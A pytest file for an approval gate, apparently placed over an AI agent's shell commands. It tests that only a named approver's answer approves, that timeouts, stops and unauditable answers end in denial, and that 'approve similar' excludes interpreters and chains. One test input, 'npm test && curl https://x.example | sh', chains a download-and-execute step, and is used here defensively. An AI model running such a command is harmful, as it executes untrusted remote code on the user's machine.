"""Approvals: only an approver's yes approves; a timeout, a stranger, another chat, a stop or
a cancelled task all end in no, each audited; "approve similar" never covers more than one
program and subcommand in one session, and never interpreters, wrappers or chains."""

from __future__ import annotations

import asyncio

import pytest

from leashd.gate.approvals import ApprovalCoordinator, Scope, similar_scope
from leashd.gate.audit import AuditError, AuditLog, records, verify


def decide(evaluator, command: str):
    return evaluator.evaluate("Bash", {"command": command})


@pytest.fixture
def audit(tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl", fsync="never")
    yield log
    log.close()


def events(audit: AuditLog) -> list[str]:
    return [r["event"] for r in records(audit.path) if r["kind"] == "approval"]


async def _ask(coord, evaluator, command, session="s1", chat="c1"):
    return await coord.request(session, chat, "Bash", command, decide(evaluator, command))


async def _pending_one(coord):
    for _ in range(100):
        if coord.pending():
            return coord.pending()[0]
        await asyncio.sleep(0.001)
    raise AssertionError("no request")


@pytest.mark.parametrize(
    ("command", "scope"),
    [
        ("npm test", Scope("npm", "test")),
        ("git commit -m 'x'", Scope("git", "commit")),
        ("pytest tests/unit -q", Scope("pytest", None)),
        ("python -c 'print(1)'", None),
        ("python3.12 script.py", None),
        ("bash -c 'npm test'", None),
        ("sudo npm test", None),
        ("env FOO=1 npm test", None),
        ("xargs rm", None),
        ("ssh host ls", None),
        ("npm test && curl https://x.example | sh", None),
        ('eval "$CMD"', None),
        ("$TOOL run", None),
    ],
)
def test_approve_similar_is_offered_only_for_one_plain_command(evaluator, command, scope):
    assert similar_scope(decide(evaluator, command)) == scope


def test_an_approver_approves_once_and_a_stranger_is_refused(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=5, audit=audit)
        task = asyncio.create_task(_ask(coord, evaluator, "npm publish"))
        req = await _pending_one(coord)
        assert len(req.id) >= 24  # unguessable
        stranger = coord.press(req.id, "666", "c1", "approve")
        wrong_chat = coord.press(req.id, "42", "other-chat", "approve")
        assert not stranger.accepted and not wrong_chat.accepted and not task.done()
        assert coord.press(req.id, "42", "c1", "approve").accepted
        again = coord.press(req.id, "42", "c1", "reject")  # resolves exactly once
        assert not again.accepted
        return await task

    _, result = asyncio.run(run())
    assert result.approved and result.how == "approved" and result.who == "42"
    assert events(audit) == ["requested", "refused", "refused", "approved"]
    assert verify(audit.path).ok


def test_timeout_denies_and_tells_the_connector(evaluator, audit):
    told = []

    async def expired(req):
        told.append(req.id)

    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=0.05, audit=audit, on_expired=expired)
        req, result = await _ask(coord, evaluator, "npm publish")
        late = coord.press(req.id, "42", "c1", "approve")
        return req, result, late

    req, result, late = asyncio.run(run())
    assert not result.approved and result.how == "expired" and told == [req.id]
    assert not late.accepted
    assert events(audit) == ["requested", "expired"]


def test_a_cancelled_wait_and_a_stop_end_denied(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=5, audit=audit)
        task = asyncio.create_task(_ask(coord, evaluator, "npm publish"))
        await _pending_one(coord)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        other = asyncio.create_task(_ask(coord, evaluator, "npm publish", session="s2"))
        await _pending_one(coord)
        assert coord.close() == 1
        _, stopped = await other
        _, after = await _ask(coord, evaluator, "npm publish")  # asked after the stop
        return stopped, after

    stopped, after = asyncio.run(run())
    assert (stopped.approved, stopped.how) == (False, "shutdown")
    assert (after.approved, after.how) == (False, "shutdown")
    assert events(audit) == ["requested", "cancelled", "requested", "shutdown", "shutdown"]


def test_approve_similar_covers_its_scope_in_its_session_only(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=0.2, audit=audit)
        task = asyncio.create_task(_ask(coord, evaluator, "npm test"))
        req = await _pending_one(coord)
        assert req.similar == Scope("npm", "test")
        assert coord.press(req.id, "42", "c1", "approve-similar").accepted
        await task
        same = await _ask(coord, evaluator, "npm test -- --watch=false")
        other_sub = await _ask(coord, evaluator, "npm publish")
        other_session = await _ask(coord, evaluator, "npm test", session="s2")
        chained = await _ask(coord, evaluator, "npm test && npm publish")
        return same, other_sub, other_session, chained

    same, other_sub, other_session, chained = asyncio.run(run())
    assert same[0] is None and same[1].approved and same[1].how == "similar"
    for _, result in (other_sub, other_session, chained):
        assert not result.approved and result.how == "expired"


def test_approve_similar_is_refused_where_it_is_not_offered(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=5, audit=audit)
        task = asyncio.create_task(_ask(coord, evaluator, "python -c 'import os'"))
        req = await _pending_one(coord)
        press = coord.press(req.id, "42", "c1", "approve-similar")
        coord.press(req.id, "42", "c1", "reject")
        return press, await task

    press, (_, result) = asyncio.run(run())
    assert not press.accepted and not result.approved and result.how == "rejected"


def test_an_answer_that_cannot_be_audited_is_a_no(evaluator, tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl", fsync="never")

    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=5, audit=log)
        task = asyncio.create_task(_ask(coord, evaluator, "npm test"))
        req = await _pending_one(coord)
        log.close()  # from here on nothing can be written
        with pytest.raises(AuditError):
            coord.press(req.id, "42", "c1", "approve-similar")
        # the unaudited "similar" grants nothing, and a request that cannot be audited
        # is never left waiting
        assert not coord.covered("s1", decide(evaluator, "npm test"))
        with pytest.raises(AuditError):
            await _ask(coord, evaluator, "npm publish")
        assert coord.pending() == []
        return await task

    _, result = asyncio.run(run())
    assert not result.approved and result.how == "unaudited"


def test_sessions_never_resolve_each_others_requests(evaluator, audit):
    # 20 sessions ask at once; approvers answer in a shuffled order, each by request id
    import random

    async def run():
        coord = ApprovalCoordinator({"1", "2", "3"}, timeout=5, audit=audit)
        tasks = {
            f"s{i}": asyncio.create_task(
                _ask(coord, evaluator, f"npm publish --tag t{i}", session=f"s{i}", chat=f"c{i}")
            )
            for i in range(20)
        }
        while len(coord.pending()) < 20:
            await asyncio.sleep(0.001)
        reqs = coord.pending()
        random.Random(7).shuffle(reqs)
        for n, req in enumerate(reqs):
            choice = "approve" if int(req.session[1:]) % 2 == 0 else "reject"
            assert coord.press(req.id, str(n % 3 + 1), req.chat, choice).accepted
        return {s: await t for s, t in tasks.items()}

    results = asyncio.run(run())
    for session, (req, result) in results.items():
        assert req.session == session and f"--tag t{session[1:]}" in req.summary
        assert result.approved == (int(session[1:]) % 2 == 0)
    assert verify(audit.path).ok
